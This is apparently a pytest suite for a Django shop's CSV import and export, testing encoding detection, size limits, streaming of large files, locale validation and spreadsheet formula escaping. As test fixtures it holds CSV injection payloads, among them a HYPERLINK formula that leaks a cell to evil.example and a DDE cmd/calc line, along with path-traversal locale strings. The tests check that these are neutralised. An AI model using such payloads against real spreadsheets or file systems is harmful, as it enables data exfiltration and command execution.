"""Hostile CSV input and output: formula cells, locales that would name other folders, huge files, and
encodings a naive detector gets wrong."""

from __future__ import annotations

import csv
import io
import tracemalloc
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError

from vitrine.connectors.csvfile import csvformat
from vitrine.connectors.csvfile.connector import CsvFileConnector
from vitrine.connectors.csvfile.csvformat import CsvFileError, NewImageRow
from vitrine.connectors.csvfile.services import MarketSpec, catalogue_import, csv_shop_ensure
from vitrine.connectors.errors import ApiBadRequest
from vitrine.platform.models import Market
from vitrine.platform.validators import is_language_tag


def csv_bytes(rows: list[dict[str, str]], *, encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def test_big5_is_told_apart_from_gb18030() -> None:
    data = csv_bytes([{"Handle": "oolong", "Title": "凍頂烏龍茶", "Image Alt Text": "臺灣高山茶罐"},
                      {"Handle": "shirt", "Title": "純棉短袖襯衫 男士 夏季新款", "Image Alt Text": ""}],
                     encoding="big5")
    catalogue = csvformat.parse(data, name="tw.csv")
    assert catalogue.encoding == "big5" and "Big5" in catalogue.issues[0].message
    assert catalogue.products["oolong"].title == "凍頂烏龍茶"
    assert catalogue.products["shirt"].title == "純棉短袖襯衫 男士 夏季新款"
    # GBK text is still read as GBK.
    gbk = csvformat.parse(csv_bytes([{"Handle": "longjing", "Title": "龙井绿茶"}], encoding="gbk"))
    assert gbk.encoding == "gb18030" and gbk.products["longjing"].title == "龙井绿茶"


def test_cells_we_write_cannot_be_formulas_and_the_merchants_cells_are_kept() -> None:
    catalogue = csvformat.parse(csv_bytes([
        {"Handle": "mug", "Title": "Mug", "Variant Price": "-5", "Image Src": "a.png", "Image Alt Text": ""},
    ]))
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
               "\t=1+1", "\uff1d1+1"]  # the last: a full-width equals sign
    additions = [NewImageRow(handle="mug", src=f"images/v{i}.png", alt=alt) for i, alt in enumerate(hostile)]
    additions.append(NewImageRow(handle="mug", src="images/r.png", alt="=1+2", replaces="a.png"))
    rows = list(csv.DictReader(io.StringIO(csvformat.render(catalogue, additions).decode())))
    assert rows[0]["Variant Price"] == "-5"  # the merchant's own cell, unchanged
    assert rows[0]["Image Alt Text"] == "'=1+2"
    assert [row["Image Alt Text"] for row in rows[1:]] == ["'" + alt for alt in hostile]
    assert csvformat.spreadsheet_safe("Mug, blue") == "Mug, blue"


@pytest.mark.parametrize("tag", ["../../escaped", "de/DE", "de_DE", "", "de-", "x" * 40, "de-DE\n", "..", "en US"])
def test_a_locale_that_is_not_a_language_tag_is_refused(shop, tag: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ValidationError):
        Market(shop=shop, locale=tag, region="DE").full_clean()
    if tag not in ("de_DE", "de-DE\n"):  # input spellings the command line normalises to de-DE
        with pytest.raises(ValueError):
            MarketSpec(tag).normalized()


@pytest.mark.parametrize("tag", ["de-DE", "zh-Hant-TW", "es-419", "en", "sr-Latn-RS", "de-CH-1996", "x-private"])
def test_language_tags_are_accepted(tag: str) -> None:
    assert is_language_tag(tag)


def test_a_bad_locale_stored_around_validation_cannot_leave_the_export_folder(db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "in" / "products.csv"
    path.parent.mkdir()
    path.write_bytes(csv_bytes([{"Handle": "mug", "Title": "Mug"}]))
    shop = csv_shop_ensure(name="Shop", csv_path=path, export_dir=tmp_path / "out" / "export")
    market = Market.objects.create(shop=shop, locale="../../escaped")  # bypasses full_clean
    with pytest.raises(ApiBadRequest, match="not a BCP 47 language tag"):
        CsvFileConnector(shop).export_write(market)
    assert not (tmp_path / "escaped").exists() and not (tmp_path / "out" / "escaped").exists()


def test_a_csv_over_the_size_limit_is_refused_unread(db, tmp_path: Path, settings) -> None:  # type: ignore[no-untyped-def]
    settings.CSV_MAX_BYTES = 1000
    path = tmp_path / "products.csv"
    path.write_bytes(csv_bytes([{"Handle": f"p{i}", "Title": "Product"} for i in range(200)]))
    shop = csv_shop_ensure(name="Shop", csv_path=path)
    with pytest.raises(CsvFileError, match="the limit is 0 MB"):
        catalogue_import(shop=shop)


def test_an_overlong_line_is_refused_without_holding_the_file(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(csvformat, "MAX_LINE_CHARS", 10_000)
    path = tmp_path / "one-line.csv"
    with path.open("wb") as handle:
        handle.write(b"Handle,Title\nmug,")
        for _ in range(16):
            handle.write(b"A" * (1 << 20))  # 16 MB on one line
    tracemalloc.start()
    try:
        with pytest.raises(CsvFileError, match="line 2 is longer than 10000 characters"):
            csvformat.parse_file(path, max_bytes=1 << 30)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * (1 << 20)  # chunks are read and let go: never the 16 MB line, let alone copies of it


def test_a_large_file_is_read_as_a_stream(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    rows = [{"Handle": f"p{i}", "Title": f"Product {i}", "Image Src": f"https://cdn.example/{i}.png"}
            for i in range(20_000)]
    path.write_bytes(csv_bytes(rows))
    catalogue = csvformat.parse_file(path, max_bytes=1 << 30)
    assert len(catalogue.products) == 20_000 and catalogue.products["p19999"].images[0].line == 20_001
